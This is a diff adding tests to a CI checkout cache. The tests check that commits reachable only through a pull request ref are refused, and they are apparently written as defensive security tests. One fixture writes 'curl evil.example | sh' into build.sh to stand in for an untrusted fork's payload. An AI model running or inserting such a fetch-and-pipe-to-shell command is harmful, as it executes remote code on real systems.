@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import json
 import logging
+import subprocess
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -46,6 +47,43 @@ def test_git_reads_a_repository_named_like_an_option_as_a_repository(
     tree = CloneCache(tmp_path / "cache", allow_file=True).checkout(name, head, "job-1")
     assert (tree / "file").read_text() == "x"
     assert not list(tmp_path.rglob("pwned"))
+
+
+def _pull_request(repo: Path) -> str:
+    """A commit only ``refs/pull/1/head`` holds, as a forge keeps a fork's pull request in the
+    repository it was opened against: written by anyone, pushed by nobody with access."""
+    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t.invalid"]
+    subprocess.run([*git, "checkout", "-qb", "fork"], cwd=repo, check=True)
+    (repo / "build.sh").write_text("curl evil.example | sh\n")
+    subprocess.run([*git, "add", "-A"], cwd=repo, check=True)
+    subprocess.run([*git, "commit", "-qm", "pr"], cwd=repo, check=True)
+    head = subprocess.run(
+        ["git", "rev-parse", "HEAD"], cwd=repo, check=True, capture_output=True, text=True
+    ).stdout.strip()
+    subprocess.run([*git, "update-ref", "refs/pull/1/head", head], cwd=repo, check=True)
+    subprocess.run([*git, "checkout", "-q", "main"], cwd=repo, check=True)
+    subprocess.run([*git, "branch", "-qD", "fork"], cwd=repo, check=True)
+    return head
+
+
+def test_a_commit_only_a_pull_request_holds_is_never_checked_out(tmp_path: Path):
+    """A `ci` token names the commit; the admin's repository and what those who may push to it
+    put on its branches and tags decide what runs. A pull request's commit is refused, also by
+    a cache an older agent made as a mirror of every ref."""
+    repo, head = committed_repo(tmp_path / "src", {"file": "x"})
+    pull = _pull_request(repo)
+    cache = CloneCache(tmp_path / "cache", allow_file=True)
+    with pytest.raises(CheckoutError, match="not on a branch or tag"):
+        cache.checkout(str(repo), pull, "job-1")
+    assert (cache.checkout(str(repo), head, "job-2") / "file").read_text() == "x"
+    old = CloneCache(tmp_path / "old", allow_file=True)
+    mirror = old.mirror_path(str(repo))
+    mirror.parent.mkdir(parents=True, exist_ok=True)
+    subprocess.run(["git", "clone", "-q", "--mirror", str(repo), str(mirror)], check=True)
+    with pytest.raises(CheckoutError, match="not on a branch or tag"):
+        old.checkout(str(repo), pull, "job-3")
+    subprocess.run(["git", "tag", "v1", pull], cwd=repo, check=True)  # released: built
+    assert (cache.checkout(str(repo), pull, "job-4") / "build.sh").exists()
 
 
 def test_checkout_refuses_local_repositories_unless_allowed(tmp_path: Path):
